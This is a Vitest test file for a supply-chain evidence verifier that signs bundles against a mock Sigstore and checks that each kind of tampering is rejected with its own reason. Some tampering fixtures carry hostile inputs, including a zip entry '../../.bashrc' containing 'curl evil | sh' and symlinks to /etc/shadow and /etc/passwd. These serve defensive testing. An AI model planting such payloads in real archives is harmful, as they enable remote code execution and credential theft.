// Round trip (bundle → sign keyless against a mock Sigstore → verify) and tampering, each with its own reason.
import { describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, writeFileSync, unlinkSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import verifyGate from '../../../src/gates/evidence-verify/index.js';
import { executeGate } from '../../../src/core/runner.js';
import { githubIdentity, GITHUB_ISSUER, GOOGLE_ISSUER } from '../../helpers/sigstore.js';
import { DIGEST, OTHER_DIGEST, SARIF, makeRecord, silentLogger } from '../../helpers/evidence.js';
import { zip, tgz } from '../../helpers/archive.js';
import { IDENTITY, REQUIRED, STANDARD, dirEntries, makeBundle, other, replaceRecords, resign, rootFile, sha, ss, tokens, useEvidenceFixture, verify } from './fixture.js';

useEvidenceFixture();

describe('evidence round trip with a mock Sigstore', () => {
  it('bundle, sign keyless with the runner token, verify → pass', async () => {
    const { out, dir } = await makeBundle(STANDARD);
    expect(out.result.outcome).toBe('pass');
    expect(out.result.reasons).toEqual(['signed']);
    expect(out.record?.details).toMatchObject({ signed: true, signing: 'keyless' });
    expect(tokens.requests.at(-1)).toEqual({ audience: 'sigstore', authorized: true });
    const bundleJson = JSON.parse(readFileSync(join(dir, 'statement.sigstore.json'), 'utf8'));
    expect(bundleJson.dsseEnvelope.payloadType).toBe('application/vnd.in-toto+json');
    expect(Buffer.from(bundleJson.dsseEnvelope.payload, 'base64').equals(readFileSync(join(dir, 'statement.intoto.json')))).toBe(true);

    const v = await verify(dir, REQUIRED);
    expect(v.result.messages).toEqual([expect.stringContaining('evidence verified')]);
    expect(v.result.outcome).toBe('pass');
    expect(v.result.reasons).toEqual(['ok']);
    expect(v.result.outputs).toMatchObject({ 'subject-digest': DIGEST, 'signer-identity': IDENTITY, gates: 'bandit-gate=pass,pin-lint=pass,verify-cosign=pass', files: '2' });
    expect(v.record).toMatchObject({ gate: 'evidence-verify', outcome: 'pass', subject: { digest: DIGEST } });
    expect(v.result.summary?.join('\n')).toContain('| verify-cosign | yes | 1 | ✅ pass |');
  });

  it('reads the same bundle as a .zip and as a .tar.gz', async () => {
    const { dir } = await makeBundle(STANDARD);
    const d = mkdtempSync(join(tmpdir(), 'cg-arch-'));
    writeFileSync(join(d, 'evidence.zip'), zip(dirEntries(dir)));
    writeFileSync(join(d, 'evidence.tar.gz'), tgz(dirEntries(dir).map((e) => ({ ...e, name: `chaingate-evidence/${e.name}` }))));
    expect((await verify(join(d, 'evidence.zip'), REQUIRED)).result.outcome).toBe('pass');
    expect((await verify(join(d, 'evidence.tar.gz'), REQUIRED)).result.outcome).toBe('pass');
  });

  it('without required gates, every recorded gate must have passed', async () => {
    const { dir } = await makeBundle([{ gate: 'pin-lint' }, { gate: 'bandit-gate', outcome: 'fail' }]);
    const v = await verify(dir);
    expect(v.result.outcome).toBe('fail');
    expect(v.result.reasons).toEqual(['required-gate-failed']);
    expect(v.record?.policy).toMatchObject({ 'required-from': 'all-recorded' });
  });

  it('without required gates, a bundle whose records are all skip does not pass', async () => {
    const { dir } = await makeBundle([{ gate: 'pin-lint', outcome: 'skip' }, { gate: 'bandit-gate', outcome: 'skip' }]);
    const v = await verify(dir);
    expect(v.result.outcome).toBe('fail');
    expect(v.result.reasons).toEqual(['required-gate-missing']);
    expect(v.result.findings.map((f) => f.message).join('\n')).toContain('no gate in the bundle passed');
  });

  it('required gates can come from the config file', async () => {
    const { dir } = await makeBundle([{ gate: 'pin-lint' }]);
    const cwd = mkdtempSync(join(tmpdir(), 'cg-verify-'));
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(cwd, '.github'));
    writeFileSync(join(cwd, '.github/chaingate.yml'), 'version: 1\nevidence:\n  required-gates: [pin-lint, verify-cosign]\n  certificate-identity: "' + IDENTITY + '"\n');
    const v = await executeGate(verifyGate, { bundle: dir, 'trusted-root': rootFile }, { cwd, env: {}, logger: silentLogger });
    expect(v.result.reasons).toEqual(['required-gate-missing']);
    expect(v.result.findings[0].message).toContain('verify-cosign');
  });
});

describe('tampering: each fails with its own reason', () => {
  it('a changed report byte → digest-mismatch', async () => {
    const { dir } = await makeBundle(STANDARD);
    const p = join(dir, 'reports/pin-lint.sarif');
    const b = readFileSync(p);
    b[10] ^= 1;
    writeFileSync(p, b);
    const v = await verify(dir, REQUIRED);
    expect(v.result.outcome).toBe('fail');
    expect(v.result.reasons).toEqual(['digest-mismatch']);
    expect(v.result.findings[0].file.endsWith('chaingate-evidence/reports/pin-lint.sarif')).toBe(true);
    expect(v.result.findings[0].message).toContain('reports/pin-lint.sarif');
  });

  it('a removed record → record-missing (with the file digest broken too)', async () => {
    const { dir } = await makeBundle(STANDARD);
    const lines = readFileSync(join(dir, 'records/pipeline_run.ndjson'), 'utf8').trim().split('\n');
    writeFileSync(join(dir, 'records/pipeline_run.ndjson'), `${lines.filter((l) => !l.includes('"bandit-gate"')).join('\n')}\n`);
    const v = await verify(dir, { 'required-gates': 'pin-lint,verify-cosign' });
    expect(v.result.reasons).toContain('record-missing');
    expect(v.result.reasons).toContain('digest-mismatch');
  });

  it('a removed record hidden by re-signing with the release identity → required-gate-missing', async () => {
    const { dir } = await makeBundle(STANDARD);
    const recs = readFileSync(join(dir, 'records/pipeline_run.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    replaceRecords(dir, recs.filter((r) => r.gate !== 'bandit-gate'));
    await resign(dir);
    const v = await verify(dir, REQUIRED);
    expect(v.result.reasons).toEqual(['required-gate-missing']);
  });

  it('an added file → unlisted-file', async () => {
    const { dir } = await makeBundle(STANDARD);
    writeFileSync(join(dir, 'reports/extra.sarif'), SARIF);
    const v = await verify(dir, REQUIRED);
    expect(v.result.reasons).toEqual(['unlisted-file']);
    expect(v.result.findings[0].message).toContain('reports/extra.sarif');
  });

  it('a record naming another digest → record-subject-mismatch (even when re-signed)', async () => {
    const { ws, dir } = await makeBundle(STANDARD);
    const recs = readFileSync(join(dir, 'records/pipeline_run.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    recs.push(makeRecord({ gate: 'verify-slsa', digest: OTHER_DIGEST, at: 3 }, ws.env));
    replaceRecords(dir, recs);
    await resign(dir);
    const v = await verify(dir, REQUIRED);
    expect(v.result.reasons).toEqual(['record-subject-mismatch']);
    expect(v.result.findings[0].message).toContain(OTHER_DIGEST);
    expect(v.result.findings[0]).toMatchObject({ line: 4 });
  });

  it('a record from another commit without a subject → record-run-mismatch; with require-subject → record-subject-missing as well', async () => {
    const { ws, dir } = await makeBundle(STANDARD);
    const recs = readFileSync(join(dir, 'records/pipeline_run.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    recs.push(makeRecord({ gate: 'prt-guard', at: 3, env: { GITHUB_SHA: 'b'.repeat(40) } }, ws.env));
    replaceRecords(dir, recs);
    await resign(dir);
    expect((await verify(dir, REQUIRED)).result.reasons).toEqual(['record-run-mismatch']);
    // the run check applies to every record now (a subject does not make a record this run's)
    expect((await verify(dir, { ...REQUIRED, 'require-subject': 'true' })).result.reasons).toEqual(['record-subject-missing', 'record-run-mismatch']);
  });

  it('a failed required gate → required-gate-failed', async () => {
    const { dir } = await makeBundle([...STANDARD.slice(0, 2), { gate: 'bandit-gate', outcome: 'fail', reasons: ['findings'], at: 2 }]);
    const v = await verify(dir, REQUIRED);
    expect(v.result.outcome).toBe('fail');
    expect(v.result.reasons).toEqual(['required-gate-failed']);
    expect(v.result.summary?.join('\n')).toContain('| bandit-gate | yes | 1 | ❌ fail | findings |');
  });

  it('a Statement signed by another identity → identity-mismatch', async () => {
    tokens.claims = { sub: githubIdentity('acme/widget-fork'), iss: GITHUB_ISSUER };
    try {
      const { dir, out } = await makeBundle(STANDARD);
      expect(out.result.outcome).toBe('pass');
      const v = await verify(dir, REQUIRED);
      expect(v.result.reasons).toEqual(['identity-mismatch']);
      expect(v.result.findings[0].message).toContain('widget-fork');
    } finally {
      tokens.claims = { sub: IDENTITY, iss: GITHUB_ISSUER };
    }
  });

  it('the right identity from another issuer → identity-mismatch', async () => {
    tokens.claims = { sub: IDENTITY, iss: GOOGLE_ISSUER };
    try {
      const { dir } = await makeBundle(STANDARD);
      expect((await verify(dir, REQUIRED)).result.reasons).toEqual(['identity-mismatch']);
    } finally {
      tokens.claims = { sub: IDENTITY, iss: GITHUB_ISSUER };
    }
  });

  it('a signature from an untrusted Sigstore → signature-invalid', async () => {
    const { dir, out } = await makeBundle(STANDARD, {}, other);
    expect(out.result.outcome).toBe('pass');
    expect((await verify(dir, REQUIRED)).result.reasons).toEqual(['signature-invalid']);
  });

  it('an edited statement.intoto.json beside an intact signature → statement-mismatch', async () => {
    const { dir } = await makeBundle(STANDARD);
    const p = join(dir, 'statement.intoto.json');
    writeFileSync(p, readFileSync(p, 'utf8').replace('"PASSED"', '"PASSED" '));
    expect((await verify(dir, REQUIRED)).result.reasons).toEqual(['statement-mismatch']);
  });

  it('an unsigned bundle (sign: false) → signature-missing', async () => {
    const { dir, out } = await makeBundle(STANDARD, { sign: 'false' });
    expect(out.result.reasons).toEqual(['signing-skipped']);
    const v = await verify(dir, REQUIRED);
    expect(v.result.outcome).toBe('fail');
    expect(v.result.reasons).toEqual(['signature-missing']);
  });

  it('a bundle that does not verify leaves the "verified" outputs empty (an unsigned Statement names no verified subject)', async () => {
    const { dir } = await makeBundle(STANDARD, { sign: 'false' });
    const v = await verify(dir, { ...REQUIRED, 'subject-digest': '' });
    expect(v.result.outcome).toBe('fail');
    expect(v.result.outputs).toMatchObject({ 'subject-digest': '', 'signer-identity': '' });
    // signed by the right identity, but a required gate failed: still nothing verified to promote
    const failed = await makeBundle([{ gate: 'pin-lint' }, { gate: 'bandit-gate', outcome: 'fail' }]);
    const w = await verify(failed.dir);
    expect(w.result.outcome).toBe('fail');
    expect(w.result.outputs).toMatchObject({ 'subject-digest': '', 'signer-identity': '' });
  });

  it('promoting another digest than the Statement names → subject-mismatch', async () => {
    const { dir } = await makeBundle(STANDARD);
    const v = await verify(dir, { ...REQUIRED, 'subject-digest': OTHER_DIGEST.toUpperCase().replace('SHA256', 'sha256') });
    expect(v.result.reasons).toEqual(['subject-mismatch']);
  });

  it('subject digests are compared normalised (bare and upper-case hex)', async () => {
    const { dir } = await makeBundle(STANDARD);
    expect((await verify(dir, { ...REQUIRED, 'subject-digest': 'D'.repeat(64) })).result.outcome).toBe('pass');
  });

  it('records further apart than the window → time-window', async () => {
    const { ws, dir } = await makeBundle(STANDARD);
    const recs = readFileSync(join(dir, 'records/pipeline_run.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    recs[0] = makeRecord({ gate: 'pin-lint' }, ws.env, new Date(Date.now() - 3 * 24 * 3600_000));
    replaceRecords(dir, recs);
    await resign(dir);
    const v = await verify(dir, REQUIRED);
    expect(v.result.reasons).toEqual(['time-window']);
    expect((await verify(dir, { ...REQUIRED, 'max-spread': '4d' })).result.outcome).toBe('pass');
  });

  it('a duplicated record → duplicate-record', async () => {
    const { dir } = await makeBundle(STANDARD);
    const p = join(dir, 'records/pipeline_run.ndjson');
    const first = readFileSync(p, 'utf8').split('\n')[0];
    writeFileSync(p, `${readFileSync(p, 'utf8')}${first}\n`);
    await resign(dir, (_st, m) => {
      m.gates = m.gates.slice(0, 3);
    });
    expect((await verify(dir, REQUIRED)).result.reasons).toEqual(['duplicate-record']);
  });

  it('an archive with ../ entries → unsafe-path (error), naming the entry', async () => {
    const { dir } = await makeBundle(STANDARD);
    const p = join(mkdtempSync(join(tmpdir(), 'cg-arch-')), 'evidence.zip');
    writeFileSync(p, zip([...dirEntries(dir), { name: '../../.bashrc', data: 'curl evil | sh' }]));
    const v = await verify(p, REQUIRED);
    expect(v.result.outcome).toBe('error');
    expect(v.result.reasons).toEqual(['unsafe-path']);
    expect(v.result.findings[0].message).toContain('../../.bashrc');
  });

  it('an archive with links → link-entry (error), naming the entry', async () => {
    const { dir } = await makeBundle(STANDARD);
    const d = mkdtempSync(join(tmpdir(), 'cg-arch-'));
    writeFileSync(join(d, 'e.tgz'), tgz([...dirEntries(dir), { name: 'reports/shadow', type: 'symlink', link: '/etc/shadow' }]));
    writeFileSync(join(d, 'e.zip'), zip([...dirEntries(dir), { name: 'reports/up', type: 'symlink', link: '../../x' }]));
    for (const [f, entry] of [['e.tgz', 'reports/shadow'], ['e.zip', 'reports/up']]) {
      const v = await verify(join(d, f), REQUIRED);
      expect(v.result.outcome).toBe('error');
      expect(v.result.reasons).toEqual(['link-entry']);
      expect(v.result.findings[0].message).toContain(entry);
    }
    // and in a downloaded directory
    symlinkSync('/etc/passwd', join(dir, 'reports', 'passwd'));
    expect((await verify(dir, REQUIRED)).result.reasons).toEqual(['link-entry']);
  });

  it('a deleted manifest → manifest-invalid; a deleted report → file-missing', async () => {
    const a = await makeBundle(STANDARD);
    unlinkSync(join(a.dir, 'manifest.json'));
    expect((await verify(a.dir, REQUIRED)).result.reasons).toContain('manifest-invalid');
    const b = await makeBundle(STANDARD);
    unlinkSync(join(b.dir, 'reports/pin-lint.sarif'));
    expect((await verify(b.dir, REQUIRED)).result.reasons).toEqual(['file-missing']);
  });

  it('no identity policy is a usage error: any signer must never be accepted', async () => {
    const { dir } = await makeBundle(STANDARD);
    const v = await verify(dir, { 'certificate-identity': '' });
    expect(v.result.outcome).toBe('error');
    expect(v.result.reasons).toEqual(['invalid-input']);
  });
});
